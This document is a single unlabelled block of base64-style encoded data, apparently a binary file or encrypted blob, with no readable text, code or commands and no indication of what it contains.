5XDZsW3qSIrrv5Toviu2/xrF6kbU0Dn0vobCv5SK8iT3E85GbnJY7oGLAo5US9n2VwxCIGZzAAQTJYgIweIR1oDqyWlA8R/2NC/1UQK//fX/JDc1aGxMNESjI2H8Wzbue1bwufHiAWiD/pSJSgpBIP7/+atjeBBtclMDQV87oVtMVl8JF+ETvGzXqagbAB3Vi+DKWuW2VTa4hkVZTFz3HDOmMlJ4Rz5DMH/vaFK0Ollm5dRL3SyMNF+97MP7huV7bDtfMW/seJv835bHj6UEXGaOy/nmLBHMIAgA19MuEslxulppR1ssy/GNorbSCCjNYg3PKAjnLMSkGRuL8mFcoK1POdDYwiSyddO6Hp8sw8mPRxViWGPTULBao5U0wBiyggn6Ezz1EE1c+SoESvnWIec/aOuC0I5LhDMGRFASwb+cRcBoh1i/2ATawH0RTHuSHjAGaH9ufFQjV63bS21h1+FIgE4QPPSj3L6zcO5+L/O1M2ZnrEgHKJF1Y7uaCYsK+W2mZDC+fRt/g8vmPEYdi+ThKa7wchLv7GWg/7W5jG3nd7KrpPqe+Lt+WUPG5cJ8YqH2w4XKmequILd+FH0UtIAafP7VoaFSciPj++X4a+UcyCoYCs6fuZ1HNoMgwx424cnb2Y3HBXbEe9JDWzhSPFXnHijIrsrSv+0TXiUTmQedOnXX+LVahQyFD7hCYT/OGE8XcRDRmcPUE/3+OpIFcq75zLs7PmAtopc78Xh9MWCbrzuI39+L/LkcX+Lltpcjhtm2T5L9MASCBCWr1zXEeVqMRwh6LG5ioahY62JR7+8Y4m/xQa5R2HabPEyskS6VpzHMEMyv25O0z4YfgCmm8QVD+O/IrXa42Vh2sMsdCv8FvvU+N6ncT4sfGxSGptgsTuMWU/r2/xfPtboQzqoWhnjN7Sso/4DeoMagSGTmCcYSnHGpO4yuvsBcUQCTurR/jlPYRY4xmU/MizSc10sl+pIkXXn573VsFRvzjQxy51/BmkimZ9niKWi8PufrPKIeBOU7KhB6FwaP+ygLffcf3FpM+7o3D2n9yFLT9DxogbrgZd138Mv6mLA1bIquwBEv3ckhKYw592AEnKtwfOz8Zfov5Kd+31xwm8k/VYlHPJvXGXvJJuQAOgbKzKhecXgZ5QJhB+fBaxKGZo+TfWJiVsWR5zT4HXAMi4VgG1B+5KQNpWF9Hkd6+rcx/t4+9e3qJPmy1CdftU1euWQlsrUFYbLWuVF9pSVTdAEzYVzqpxb1rj74EfEbxndx5cTkWpMXWHYjPHTxcOkqy2AKpSLhoH4uUeyWkCn6AMBON7LAE3DBGdlWwlqT8KTuv6TRX0FI82LnO5XvsS1sL+7zXmVC4IJN3KI3QjXssFsjE9+iJ0HKC667eX4lEjCIQJVFYLH+iqDvDCb7y9VEwbRpGzVLFI9715pETEFWoe0lXVIVlpDsWdNFQVUIHwDbLlr3FLSq0cUpHOyBiyT2+gGddqAEKm4tUSWyE6CfU2RrFkIRleVQZzokXp0P/XjmZ+J74GYjKpvxIZyyf+aDsfN2jOl8nPCow0VsH8d2PdiZ3HBp+3dZDamvUnTNv8KukzBGu6wr2zAqV5Y51oBZkPsoG0bi0HoaHIzsp/HCY4vAzPEADHRE4VH6Ifk6Xa6RWGOTF5DITWDtJ/2wQwaGuINaNMfgpM6caMrKNw7TdgqViqLvFnVqy20nMRDXYeSFkuLEvD8BS2Tj9HXG9Bb+xIsdajCYCBtjNjqPY2NTrv7eXPIvcvhnJUujW2n7KyONyOt48yy5GFMX+Vz8i5bdVAhVhIUtyz8dkfJyM/ptf6xPLVnlQj9w7gDtajR34wd/6M7GN1+SJ4P7SaA1sduLRVTBStaWFjR5Ig3HlSl/tdNUipfTBrBKYeGDcAaMsU+euGN7BiwpW1tkKxtlmICvGHj11Y2z0eSCLGshQplx85IryP2Ocu4jW/bFHPdVOf96KlogGlWb9nloIPHhIH7EraigAx6AIiHHWor19jvq/yybL7ZIq9qblZ7FaAsRW+IHH5zw2vs6C3D8uq8L4A6iLK19w5FX0g4t4SQk1cuJa0Qg6L8OAW9tsdx3m7ngLAjCHdu46CRJSUjGgoDdj4Sid/bcxz88AfkpX0QrODkIjMctu+xqhvBnjaC8ciH8vZjvFN1qABjjVKA+AJTEn49ec7BkSSn5NdR31gznpgWkyIO89hCpckzywpo9pH+a+kUDajR4WMubrW1divRYP0p7qzogjoAmZXp+3tcS5XiRHpK4Dx3BTTYvbx+3YjPc5epGhVoFYx3j2PMmkaVPUaoHbpNThTgA2ERhV53eYgerzXJrtTJCz5o5oNbdLfpeJq793m7gMFeiI7KUNiFX8FBjluvyLw9eL0p8xPToRbv+yOgomb85MVdDwKXnXTD+NVHbv3nMcKc6+hcYiByQY4G3Dg8G2iRJCssmLJ3Y8tbIP32zjNZFSnvp7xeyYN1Kt0OI27qhI/XV78G04Tybpw96xheFe7Qc4GqUFQvvptffSxQkDs9n3gWv9t6wHCz/pE/vxQT+IgWkkfCgkmFVNz4Ox5xHbdoQjPTLNwS6Az9l0kqx11fMTmekdXkK0rz3hOVOvvboik6JsOc9w3gBCCH7u7eJ3KAxfIKioEUyi5si/YarqMW2kk/g7wzE8cFLJ+63P8s86mge40AfhqVliNNsvp0NdM/SBby7lNgYaMufW9Tq6ShLG534y1/Z5YBgzByVfDTousilC5vNNjxY2HPN5TcaaOjcj5WXdmoxIwaDSeXhcvd/umg4tfdZojsxrhXxy0eaL6xkeX27Vq+5vK/XDHuNtbWCs0DmhDER1HMJIwbgVIsmmIBbFAfZ6gkEWwJtV4dIQPFr73ydhc0KWAsVkvop/xACssA9q9FIQuiQzxsZ5thOxpOuzztnrAoOzmLtaShppVga3YXW8vUQ1skc3xTc7gSGs+musmoTIoGPqd+DBiBMR4h3I9RsdDe0x8GeBS770hHxM3PFY4WRchw9fJjlmtbgxeEzIiVrebXWRhHcDutJ34YNaOlMCzpEqdzrcBqeHDrlSAfvKAm3ZYtAvfOq2LDL+j3SYJWq4wSJhtWwwCq3MnWpm/D5KdJ9yI3MpG/cFNwcn7buMB7DGJAb46zDl/e6ulOw9NE/LRt2LkRwZOQQhDFAM4uJc0X9uGdBwltUyH/kSrhd2Ec0MWG/QOTMbhZewJeJZyiZFkD+uTzOFMk9XSdV7DXtZuLNrHowomZT2rWChaNONdWpq/9J7L7+39curdCmsw2vYRJ6gFjOErqzOicQBwDhqQBv+N+jUgMXQOJuvil7M3fvdHWHBwaDPhzt7N1zXbvqKt4C7Fl8tpQsJTwk1Do8+/JxkoGKLzKiWWyUmcjaXQPTAHy0EX82xJ5jMPHeGpFCj+Wl6vB7O6iDUnQU+tPNlCHQk+z/69+6Y2BxWSToY8m82du0kc+pS7C9YvDvOC+1HrDYTAzKVZuMIh+QKTdU82Qd4mf7726OLn0/9mXfBE7aqPxPu069HFwwxSJg2+2pdTkXZJ+CX1Se4YAs1kJaYFysS8f9wTLbMoz5jrI7y3dYz/Z6vr861+f77UF3kToH0fTF9Xz2RAmAQLQD6Ahyfrdj8KfWnZ8qB1BX6zdhGC366R0knsGvAZiqlCOyLZ5hsRXwJ9gmk5X10dqMqE0sL73ROfR1fHlfPfij9eF24xQF14RaVFi5w4+ruxPsEsR5OS8RTdc95LOFwIWwc9e4uE2trxBBgDZZqZS/ywQkbJN546pYzPtPfi8qkH7x+pQ/PVrl5UUSVsME5l9zWsqbu60R2/9eMVakZO8TK6NGDLo89R9GGxQCyz15irGM5FX+aOWw07hJBPuKU8pIW7RJqT+r8myeipHeFrblIOnmPgaVHdPIrbk72ueuyFNaUsZ199GECe74shuM4LfM4ypXO5XrhjvJ6ITzARLRdQQI5R8i+K7sMeHdVqLp6Dpz04f7gmiQ8RQhcdtzE0PsuaPTvjKq8mxd5VJrS4Mk39SAGbrj/4LbmZz8bw3EW9GmVzj/7kZ0+ulI7GAl4NkRtR0apyyhDQujG8UwCte+6yyUyxuZBbZb4G0oUrzgp7n/Ew6/luqVKlwTNSYXaRAQpBCwhpmSSG2MuT+KlvXne4gkLc+rbqU/VxB+3IhQh9uuIfCoQlCCBLJzNdsP+3M8dcCzvBDANTUKYH3x2Le5ig87vaB86KOQ7PkflPdrT12dQGaMQUS6rCubLGdHmmrxXQTqyH1UjU9K1Z6e2l4mMC6xr03wU1xM+ONL6rNuaYCEtE3so8HMbFSL91XH7nwB+bJ7pG+f70YLTlPJ93iIZaK8bvd5LCe6ZP9J3qoFgUhQFkfSAlVQpNkgixSroHCUfrc59r/9G6x/9bgzmn1VplhvOrUT3Y9sX7DRz6OUnnTFCAMt5Ln7yn0KCrO9OUCr2aPJjt8oFU6ghd6JRiuhC8Y6+0OCwivniG8F50PG/sbbx0uJs196Tck4qirUTMXpO6Bhy6csUOR8H7DVndshwbM9ROIGPQZBrbQh97D39q9tifiEE5xW07wvazfLhoHkjmF14AOSOX6dm2MeP/3jPlMVFXumFSivxsrfFz5Vg7S9N46/Y+SzpTNw4Z60CyZR8Zkvy/+mkDOgLASfDgAtX0XMfHF9Lf6vBUCJeKsPlNsDrXKEiChoWWxMdndzU7LIWlJKL79Qw5Ce23IsmwdlhNiu3I2ZYIezsnLu9WVeBZQKDBbu5NDin3EnSwlLnIMej0Mk77UHI3/P6QuuoRLmHN0SekVR/pmFMDgxVmHMqEac72edUc7RQCWi+2oIWYjH0tsu7eZsfRlBaEbbQSlQAFZlE7zO/XvwYibsmOR7p4gZ6bNxAHHI4k3yrz1vlR4HAeRd9cbb5/JMiX7Xu90zukUYZ/WBXzsQqTAy186iwiV+5gBBjBjrZ8SzwTjhl+BxWLchOIJUxI6ZyEco7gg90ViYW6joq+9pVJKGK5/cMkIU7lV+8fyLKhEw7cRgTlk1RWpIfYS1TC+GSdElsuktBVfXg2njxn/papMZNw+JvLJpKT8Flsyv8LWwOMuUFpCz91EZBqvgHvW/EpivRs1ULUYeXzGksnAlFRpIqT/SOVjXTOT5QBhwIYErsLLtOF05Lq0kEkbXpm+83v6KsM411QDBBZfOE6mbMdZJdiAy00ZRoJMKPTZhP2NQgb/rvBi8TBRL6/AzhdbfGrlNmQbuEGMY+xnnEerHNLP2YFA90DhX1eGjqohFi4b5xtJdXAcKpY6MAHnz83SJeAltznsZbFPt/32VcQQRGOJwzulr89pdJMgFZfM+XynpF3nOVm5Cll2MXsRUagjhpAV2fL24EZ4JCMYOUNKevpVTRT7a/WGdxyyDv9cmMH1a982jBtQCzJ7mDktFyGt3dcUDuHcH5ZkJfjGDonHcpMwWABOq+z84UsZmIOkSCncuPfej+V55nqFouD4FeR7UMaXshuDsgndq85I8OwHl3cOY9RuSLjEHEO35+LXvvxRDyJPCmoH/1cdSt9x5ut9gpnvWFwjinaZLMIUdzhBcqR3cNUQUNddSckmf33tumjD9UAAGtgu43Gvtn3M6EEX09JDczkhcLuEl+GXtYtAXg4gLLuuRrqdVa63WvDsLwXdZEpN1acfsjN5djuu92vz/YXer2QyoMKUPT6RE113mk9UqvVmSmYWnZG3t6bL5voAZDUv8PoP80Wpp4f+aSY4rviZPU7WzTcRMbDg8kQSLGYS1pEEw4bhim8ZVyXuqnRyaEdL12nwJSuPftmi2uzp++cldi9wjKT0oZGZ1o6FcNZ1GEXE4zvk6AFNQf0wsimXWZxvTuHOHplyLA4z0j9Gx2CRWcECdDquNVwEjKiGv0+JOUUwTATYcr/whkSqFd30Ovd2pnbdbERtWoM8s4MuBnjnikTv1n6DT1zaXTSTsYSPnXralomFGsGUvz+Q8WoAA29YTdi8naInXr8PRjnflw+AbHoFU/YBQVCaJX7Q/iL2WotdgnS3jwDu2emOem0XkWNpugaWrypKXqTT7NEJsw8ofx8XPyOkGl9705+UdutF9C480+4DlMw5JhljmhtwlAdVXoF8F1tWvIyalKXa4MyHHcw6g/0DpQmW0TQfR64rFdB/jlD7F8TbP3j58G9z14VxBnNN13qJTIB4W96c75RvDYY5mig0Psci1N2yyG5OKz81RU5OChmM4JjCA3NZOk8SOlBqPAjrVvSarsKQrPgNdhPHeFY7ukFbCwwH8U6sBGMjhYVegmrxDKdJ6SG5/3yJLmoF8n9VGUfCZdyV3TIcoXZv8qxMYuADFF/2a71ULVR3gnvXEi1c0UcNWhldmhWLxGgZngWhmId2ukEuI6e6qK7mW+G9rFAVbFNHByDGsK0RPRxDm2o/cfhJ/YAZbm8k53QSmOPgKjwXdUCDPScxHdnn0w7gDFYOJyCfExfcG0T4nwBs2Nctj+pb1wC1X4bKSpqCW6wvPUGg1Xr47L9kmZfDorFPUOdsstIL7eKevEP9/03aSTRnStM6A/FIVVQMAR9ZgLNs+kvWnZA1Xsw59SQQ52ZKxZt2/nJnwryGVrZ12PCwu3HOyG+6CNhhX9u28lCwKpFpyqiDTy4TNAZKqL2AnkB0fEuzaLb8EcddYu3L8+LUC+y8B2N7EVJm15ds197rVa57M04f2ASenfMDDJCOYg2HWZPp8AeguTKk1D1w6aSPUJGoTPMq3BJVYrfxom+y3IVNcngi7Om4QzHZdgSn4aDKIPtrEY7AQ5PtR7HiqjQeb70Rte4HxXTN1rdXK4otK873uxLNGMhvQcvAHwQoUM7Hfc48QRqlRXbc/FuX4F2KOugnfrQJLVPgSTrXYwugRkmEdndHSZapJoDZtmRC8SRIWW1gzZuA/DPXKicrwNT2GJWlqCUy1wLIrYr2IPEO0pKjiCF0E8wZLVX7XDB7WBs5pzZJllVsrjHdfBP9xV+BxjY9Ppd37wv0CtjawIoran4CZ6BQuoCZn60CkFlSpWfe2P893wO0wWbe0wjKowzS2lYVDMX7dLO8wBRu9CiR1lct9pBhXlK5D9xP2EKPfb/v5VcExpMqRQVki+F5X4IotRoaJozpfk1g+8Zmg2zzkaeakv5ehh/Q23s9ei4SG9jZuLqLY4Oq6DM0VKl5Y8dFuAWiYjDzy7Bsjc5CYKwTYvXJcOku9YDx5a5/QZLE82JIDfuzpLNRu6OlaJ0VEau9daqHa1DfW6JMBVh7g6fEMMJZcMhtFygGTYg2DokLbU92nn0466DmZPAQnWjy1EDSSrQ1t5voROgTEcuvBpuDDA1uhlQB8tyjykeglVPAuR5jUksLvXSdf5z97dZdnkeDqIQ0krAzveAijHfqEWDHp1uX5Re2DDL/HT03qljTUXNyc+gDYW+6GHrriHzo6BA9+iA2pkwpEuR9pH6pVHQrs5XG5deZC43Hlb/7A+x7rFuUBCAu+HT0ONrxROYOANCbdYNAkWJyX/fCJFlw+1x0/glHfemwtNMFo4iMLRUcGf3Rq+3PM5zw2Y0D04Dv6y4NRGJ6pKxQjnfdldqgXR+A/jNfieKNLrWmODwevDt8+BYyyJX6/673udwYHiWvb+T0jrDPMJ3v7zGs364th+24DqN3CNbWFyCGTPQBv6JkUwF60reZzs0PAU05JUXba9qhN8DF4HIgrJfqeogC6Ea3WoBh4j0mCUZJzoD1euG5qUIHTQiFkBgUzjn9sML8q2AT9X/9K3jqh32hoDVo32+w5v1V8zUwMcQkWfFUOFNxx/nuIqufam/1HHeJfjJ0NgONqAEsp1dG70ak8HyUrQ56YSr6AaxFbZOp2LMOEx/NH8ShT2xXGBjUkzAfTT8Ktug8n07zH6xwOVCK/hj8Wc7+7iyyGrWZXzqCDKesf8Md8IE+6gBehFb/AfqU06blvp0RSvHpVabUx7c9u+SNAuqzGEO2vBMQUuIrpe173D325azIADG7Cl9ooBnfZdOLXTKxDn77EeLe/KK2teWlTCc/l5cXulBhRLAqyOWKUVvz4FwaHFfqd4sA1FUqUNZ+DWYSevOnC/tzae/O9PqKhTYjKOrsF8EI+E8UWRVhStgCjWt61ujM3gghWevt4NW+MlaU2l2JJNxDkCIAAXdkwQ3lLDRnsu5gO8xQCtoI0iGxhY/HZhAyycfxQFsLLSWwFt72QQVTTJyWICCnHI3wzIzQy4YxSeP8GjkSUmd+xaU8Tfy2vY4kJOzmxhdWbk8TfMl5JUSCyTAkb2uLSW4bHFq5fOuEeU/YC1kxMRVIN09I6YiCySEU+cdt9nedrqGZg1Al9/Jo46ZQe/AAcOCn6Fw3nq57JK/hiZrAViFAHKSlPi9GmXQgz+j/eKrEr3TmOZhO0JFzFuFEiuLcKV/WsXdNdCNCGexywA7d1zMMHD6hmCstuXc8M4JZIlRa+ITqWLw7VvBjIcJXXKDQlWUMEUrpUtZPCU60zBKff7xj94CLEEnI8uNYBzdfqmx1MRSVTZ1MeZt0d0fcaJx3dthwoXl9mDpxnNR1+fC3okph/M6cf0n3fP0e2JIT0aIDofy/V82os8+isAvdWwvobm9z67dhsO5tf3zKhQEfNz5tcDdxvktyLVmChmBwJ2zo0cHCQKVRUOBAqIPQxRXQcRNb1WiJ4zX5xxiY4H2EMtNUGyMpz8GWkyG6V0P2Mou+Hmu/e/neK7H/HaR+SMG1EMutTu+hFWZQ823EUqcPVwR7zQxAfk6p0qFJ5tgP9rvqfdilNZYmYa4wMgMFuqnXyGVKB1QlniheUCyTXKO58eg1zJEgSESgCO4hhENkAUyA+aMIyzO5R0rW5NZMD57myX57t33agKshwHqm6XBjDrK5VB2FDYtIhDBfynNhKn87RVRqvavutddcRrkEv5SBuxqxTEepZBLLVF4eQFyye8yZu5LS3akMg8z8rjLhrCfuGfolVv+MktCajsfpluI7NbdekdHt0WGisT1KmUIEov/xINRVgRURLnnfyC3/3+UN7Fg0oZlvOZE3+c+lE94rZfk4My7pKS++SBYPsM8KRMDUCzTVGxwADP4eIQc1eqH02I8LYGNY6rGg63ohwiyj8rv0EHk7BzAfjU9weEWnfh8eycvWzrNYmLPIR/C+0++0FAPkBXvix3J5KbTuc8A9Z1w82QcOcgWIDDvTg2BPAW3NUROefr3ndzrs68HYFwRgb4fy7a+oJE/EcYSkWUVMuN08nZDCAe73IaBN3BvC5nelJi6R+Pvu+CyUFZSfPPMslrCBHCC8mN9m3Phui+MwGKYPEuGHNJHPwYZPzvOc+VrHskfH+deIgDSuD/H14IaQzpbXwI3xREG3nOv8s5AedfSqgI4pH26326Nig9MNNZm6DMeKLtjrSB9UEf/NMbj/V8Gkv+GesfoS0/AgGPdY8DqxngarSzp7MOosM5aep9mxRkbLbwZYwo0bZeIMHPq+bC6mHANYLnjmvCXYPFPZEh3YSMSrvvVVXAwAKjHK8Oy2mIFnYbcH6c5c3Q0+f2Vw19kIc30ep4VKPHv95t8JWcucW6GoZpdPSvn7bBZzo/MVdYm0UoC3tWZ8f4k8pExDY4ZqHzc/JabBf90xx8gji2GUgDjPNOOhU6C7aNNlHFOXe8TVPKosVtiVPGXMriHsXVfG5Bm7y+oMP4xHtky4UnUzwOeRxqJLCq6PJrMjLwVSKG7E3dDHx4w9AxgAvQGfL5Ljz3U2Mm7qN2vY2U8ozR7+79d3z2QmgNNfAw0S0FG01udzp6irJCidaX8Q0925Ry6kx4u5wXX8Syv6c02vg4Pwn+28Xk2xDJ6Yhnh11Bs0LL9EDUI1+aieOL3/nTNa7fgQ+feIVKE5lnhLgDqGRUaHTIV9LiZY7EEpNYm+N+8ax5klqgqcCHq9KIRx/LVOrHtVjhL/Y+QSyHRK5+u7mzxpKll0lkEPtwSZAxV58aO6p4u2fslLvHWweBpcZ+MQqJlhmYGf+1Qvc+xy99ttAGlstX9WYlnKul/oFrtw/9V16NDG+YGWwysGuY2qBQKfnl5YcbQ41DOMWACMnqgTtjwVISmQ54OQPD3pX05a6eAI7UUDaVkp/1tZMPvx7MM5XPssKHBUTamAKD1o63auCon9+W+O1Ggb26P85ct9O1sDZRdcJUF2rlO7XYlxQjz6z9pjW9G1yfCyavFn7eGzy5HW6XmHY9CLwPrelrn7TrcXJc/O5wydg5XKYxEbM6C+x/M5Prqzqe1U4XUQT1AJN2OY1vxa2P5yz7OOYBx1/+zirKGZr5vcJlZovYzwUMkJlaUXyGjZMwc0+s7/EO2+wfS/Cf/L5dd1SVKanznSdsZFeVwK1CnoSLf+0upCUhBY8u9a2gWdf0WeHQQHDCJBArqdwDJf8c/wl2DbbgnybPIjeXxCHKr1dqtP+HMgRxCGwHU/eaBbxl0Y2GMcT1r8hmQq/NKTdUfNKzuRenAuyYa8AB73DImdZKC8wHmuhSkHdKzM5qJhhcGnbsRLYIJ/osVUd8cIfQ3UZQNBtM0LADlnI8ZHmAXDRGkoZE7v0+xa00C39O7KEotkAyf4LJ5nocsqH+WDz7hEkilsVgPINjUDRovRItVs0ri4BPgYHGEBY4aa1dwYJ9Ktq0cHrnVxkw1WUUfjHh+s8SylQscLFxvwMZ5hsRuRoPm9j0QEA1Y4u02DA+XjhxxPPGMe/TZultITfC6DKeblQaJOXUi5oncaTiOyv9j8AtK2zw8MAF3Az5auROAOSG3ltkiP8r02/I1ytztCK9jZkpoXGbcoGPhasFJB+mjHfsHagORN7AvF1eLIRlBAY2I20XOZX4/ddieiGVqF3zHX+UJAgquT8PEJgFC5b86C12U6c2Z5SKhc+t9J3w00ePRVBZIVxkbsUyXG5gyh0Xt0c76oRZ0ZltURpCaA9M75i7g2AuOUTP9acauctUWdwjpTqBawXf163vs5R0l8VG8JXeO31mp7EbZ/ajocG+iP+D3PJotPlGrvL4bgZ1yhWoDvs3jzy4G58vqVQz3wXZDVKXfxklCgT+9NXDswjhsqcIV71M46RsmVATx5hoaHcxSpYWEEzBgUkqmStSGyVFF7NWy5tiGqWqGUYEz27agSwuqcJX9bciolMysZDvHudfTUKP4srh89dfpeG6lQGQzivhsRCUYUGP28eqGcjwIUJ7+s9r/oLAwP+DlRozuN2yWsMZUs5WF8KNv9M9yhEcGqiQ6WIc/Wxs6eMBfULJLsFrHiGlzCIKBTp1F09HShTEP1NH4sdWZonjPXHIty9JV18+gtoWq78sJoN0SmLPtXQbpDR59zlXEdvsFuS1sqyY8J2qBrmkxQZF3oBTs9gp7Vec3ERcDKzzCSlYBbw8/U1u+/Tss+cHd6WUkblN23hQPz0gJdEuOqDRxdztYB9EzotDtnOPixb1k9q0cBJCzt7AeW+GgezeGwb1XAxJXmeREy4/qDwruuuDrWuO6gLWE/k4Iy7BJYHtvfLcNFhFIIYObX0qZFPcM6jKBKilYl/rHRYnAQa5aTK7P2YqLy7xl0f/x3LXWq7Z9WVygLKBudgEV8c1SMDj/8rcTFSrdvDfRzGy3QgD8MhbY5qAW7B8tRcBCmRpth0N3B5BPUbQfDZO0mUgPCwn4Ve7LL68xmqVsvA08nsuli67sGkLs+ne5OPcx5w5icJFu9vWaLMXtgThJKKvsV4MCd18HvtxvjGBd4Wa44h2yvleowlcTgcTbOiHXgattfh5oRRJGTKChtsuZorusIhL75zMHWpCViWIbc06DDGn3E/j1rVJ+QMZXhrPSFtLvmBcmavh+lA1uXXXcuN+qSjr3p03mqS+UogW89TZ3zefiK6U+VgthtvswpKF1dF98P/s8cW6tczax4yfuOCFCrLzFiN/onSt8yhkx+AJ3aVTsOffvehP+kBPDUyvwK++eq5fhi4d1kwiM7lmyGOjfhbjuvwv+r0Vjdg5QHbyWEUOssm6xEcOVZ16zqLCmBtob6nnnYOrELwItPktfRjlEn+j5sDQOvXN+xchAOC9LfcR5DUPueRkQo4ameMePaK+ncD/zB/dc5/1HQuMzrU1a42v0SxEM2xJ1mr1WZWXBOZHVEO8r7JmB8Kc9WA3OwRbxymHj69Ukex6BX0MqEDMUlHFAo/882EKaU0+9Y7edjW4CbnKxPHFQDshiZY3d639YLyL+gHXlNPrCmfaPzXkNnKGLCblXR3p3lmAYUAxE0HKwy8jqujJuU59dqUNGZWgEK8NekvGmPrVhYih6kFmmvVZyJqJC8q9AIYsktzUMY5D2FBPNNzn4bUCkppVI/cnL9t7uWlA9IByl/CuOk1bDS3BOz8+ZWzHtAbYpVPzqPL2pjFHnAJly4tAp7DqJ8HhVDDaewnL6HnPmZPGB/ek9jBzc/EtTwBfsHTFGKM8vV5L8FK6Dlc71hzonZoNaFg1K6HuftdZ19BwENonZOB8sDuruSWNA8zwPZoUO7K7BQjF2C276Z5JsGm564Br6H/9bQ4ynwBHS1qHkeB/3L7GvCOzRSpkzDYtB8NXeUyw9DFg6XK9N6VgcSqApDD2g3SFT9Ceb6ER7PJpIDLjyn07kz+SG0IZdUplEQeGBC8vgUBqob7oAgmk4ptTQwnn4nB4uRRdzWe03HYh4eSip6ltHkzcjA8mowSfdz3CTC3zmJqbnuH2P9Twyts1AL23H4FFSrCDYOJWxgSDg9vtZJgE11K1zu+o4vnYUpB+90g0JxS3j3IsNIVgo2gWelHOVZj/5o+WmuGviWiEUn7jkRJjtZQBpGy6hMwtAAMoovRnCqQsfwj+u2bLD24xwpsZH0+BLxgzfatLkJJiBc1YsNpXQcolqg9CCyVJzGy5OnDwDL7QXpZ7y2QDo/dgCnmWo5t8mFWB4n3+sA5pcvnMjyjV/0zlmXxbQL3KPwrTYqILk490yMcvzc2/ynrwROZOemADqtJAEpUI2K00kplOzs/D4UzHG29tf0dtM+KOvGZjx0F6+tnUHYQy8dT2MtAAvV0X2ERwhq5GguJjFFpy43jBgv9N7uqB4He920nmfTZKPQHw4sRzEconX1eP7BlQNeqW+EHyojtiefnYhIqJQWNyGY3924bWOX95c1gk2EZENwy+b3syUhK2cks4JpTX9McxrdykW7ZgY+PBEMKJqRs+JGmE5N30gsCsB5f/bPaj5qga6yla3XrrWv6X/GES9zI8glF8oKKr43Gg7fzRmS9UJjNvaaDKoPFBgB0a4z8W5WapTjLR/Vn6E4VLbfFG6LGi8UGuZJK9SsFmfz5tvUorPyw08XzkmSgvs1vzIfNEdwlShvaNkYIGucr3LLVpTmUSZj/72VUIfTCJCZzsBMhdsAruEyT3JSefqLjBUvciNPMXe0Z4s4OGePjuyP8lGYm6vTlkkaneGHaLvUMcIWeHVPjFSYZU3nGwvVbWeCylBNM+9Lk0pfDbaiE4qjijnxqpPUL11dqjhWZmXcpGNggre2m9my5u7jGTmvcXeNnlU3xiN7A4L0vQ29n57pUziEaIYHa4QExVSsuZH7iZEtOqNJZ2f/8uBuZ2/T/LJ4vvgzDLft8ET6vX7Hqjo5efW7LI2kAf8rCRV0O4M4WY0TORDg/cvqRNLQ+KxFNJwHuqT6aYAi/7IBNLZjAPhk4lHWqrnVbLthyhXfVyX06fcjla9mLsPhZyO5EN3XtgtnPa73ymITL4gWAdF54aKktSGcGJPxHMBVrUEFOJUwDxKB3c1KKT0uijddKJ7YcTQ6qGqXGBx91h9DBEJsMACsq/AUDg6FE/7bAaQ58hkckNRgPNX26bYORa0sjhALuv1wVUKXkBsC55KhyH3xiq6xVrS6OoLQ6VczG1x6KBFZbGf/k+YpNvaRs4gdrs1N4VSLQ6HZmpeVUSHU1RZPROealzA4EQoiybQEFQkfl1Lo8loAxPE1ZCCmA/fJ/yvhNueSSEzyVuYEM1rKGS8UUCcxwkeoARdp5n5QJy0lLJ80M7Vc1t1/WN2BWsqrOpw835jF9g+bxTz3AJFVCMfjU6d3q5XQzSxH959VuthN9D9YlA86QzSlrG0kOsncKxooSa9rg8h8au4Rv3xG3OqIJJXB12LXvshJNphNGe1do/RpsdNw4jo5hRoIj1GPWmM9++9A4Wc0VwobWjt1PptDtLXMHEBTXDcTAemsYTCum187eRsM7EydSzaB81ctH2AtGBkAlkyj+5TJTjExwG6NZb8/6hlr87sZh3+9LdnZOJVxvT7tZUgTibR2vX0rnmsFAshAgmwGwveVjRm1yAnxewiCyRV8hkBbeJlaXpDVRu+toXMXuy071x+vvfEWcioeMAWafOLcJR19zmetQmtOqlCc3p+gDQR3jacMD6C9avMKH7EQQvntDu2NiFbuhBB+cJzK5QbDQDl/j3XhDrVKLceSyzRUmhh2ccKsp/eGnZyrjfjOTLEaCgK+XeMZD6ui9p64SpDYwKRPM9cZpo0Y/peSnlwh0LjRMyT+BlqoI092lTu3o8yQ+9DY7EtFQR0ecjNF1E6KrJxRdwIHzBzq7r6S8lxbVJEuaEJCmPzHb5Qr83vL+OPI5eN05qKZbXnFFAGA1oET+Url3Rj2ny60+a0xLga7DcccA99WBhUD0fZXd6CRNFPL2rjY0IIKNPqydPdK2t00QG93c8/Amv+Cq8iQx0bjAQc5kBfOQ5gyimqTZYHrAzPDCu+kiX/POPQ2GzwE18fhR+5d4jM8htvbqSj6gY7nZj4x/xU5J/7PtRFDPfNge6yfM/QSdiK17QTcl1P+rX0KVeALHX1oBv5Xw4AmcAtcrjkTImCmtjQ9skqpA4G8QJjlQXJtDXNr7MfI5itMp2P2Ci0dOEoRf65PdW7zGYmh28DQCNJVz8WY4kMobs6W1CxWsuTIx3i6e7THu+q2bOFE2aPIetH3gPHXpl1/nf00kbt5kdflgsO7RpyVMp2C26DnvMtF/FcNT9c4S0TzhoOvI6ZIetDr6DYJu2VrJ2zkAjKSic4lkswH1lDySlzZiSNgFcjCTjC9UHtl5epbx/Kn95QfqaEdy+2zq8u1yyIOkUjV80hS/Wq652Vo/Eh8joCX4DGdAUjC8X3zdckbq9iJPPD67qMgSh2X09v71FufNd3rTqbtvftjP8qPQt0FnY9O5U7dGaEOauAb50zuxmAOyNwOVKB2VX85OkML3U6sHgx0PH5kW5QN9BHDObGTlIZ57q2XC+6owfMcisdVIUYyGs3ULQlQvDLqMJHNRAhbLnEvOdrNXjAlxiK4ZzmH3dLKsZNLkPZEw6buww+V1jAIckJaI8TFiaUM6HU+1ZjIeqbg1pq5m/85np535ANCWykvkZNDEvG6IAy2GEAnUFcdSdVe/TD3AhTeVTyXa05D/OIighGbj8JrgX5dUnGFeOj+3NHqrkTOyOZkVBm4SGRsVRW2h79VeYkBA+1oy6hENVyOT/BEgEn32cy/H28/kSQBVNJ1Jh/bUx1+65pzaivP37xld1WOmDQ2jHpyKHqZ2epaaUp4B4NeOtbx4q/hbR8NORWhLItnhlSuXFl62BuiahdGGiiQVyOx3YKNcqfbmDs3LAmSluHaYPVzXowcHSHJB+U9v6jgyxCyLFC1aFtsAA0XTJhoR4NVmmmg+Rron8efjyv/OAzRbly/jVWxLdQ2tOeSWrBdi+6Vgo/Q3i88qO9wz2VtJE3oLZxXKp6xtcE6cYM8PG1gFnr3+CSAA811u1YQwbt4xpMdULRPyrppR+ws5SinphAADeGv3OW//koLT6d6umhz2zDpU8iCbHTPMwV9ydCEzKY4f